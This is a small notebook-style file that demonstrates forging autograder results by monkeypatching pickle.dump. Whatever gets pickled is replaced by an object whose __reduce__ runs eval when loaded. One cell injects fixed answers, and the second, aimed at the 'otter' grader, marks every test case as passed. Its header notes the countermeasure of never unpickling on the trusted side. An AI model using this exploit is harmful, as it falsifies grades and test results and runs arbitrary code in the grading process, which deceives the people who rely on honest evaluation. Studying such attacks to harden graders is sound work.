# %% [markdown]
# # Hand on a pickle
#
# Results that go from process to process as a pickle are a program, which whoever loads them runs.
#
# * aim: forge
# * stopped by: the trusted side believes nothing that comes out; nothing is ever unpickled there
# * here: double failed, mean failed
# * not for: nbgrader

# %%
import pickle

write = pickle.dump


class Results:
    def __reduce__(self):
        return eval, ("{'double': 2.0, 'mean': 2.0}",)


pickle.dump = lambda thing, file, *rest: write(Results(), file)

# %% of="otter"
import pickle

write = pickle.dump
PASS_ALL = """[setattr(result, "passed", True)
 for test in results.results.values() for result in test.test_case_results] and results"""


class Results:
    def __init__(self, results):
        self.results = results

    def __reduce__(self):
        return eval, (PASS_ALL, {"results": self.results})


pickle.dump = lambda thing, file, *rest: write(Results(thing), file)
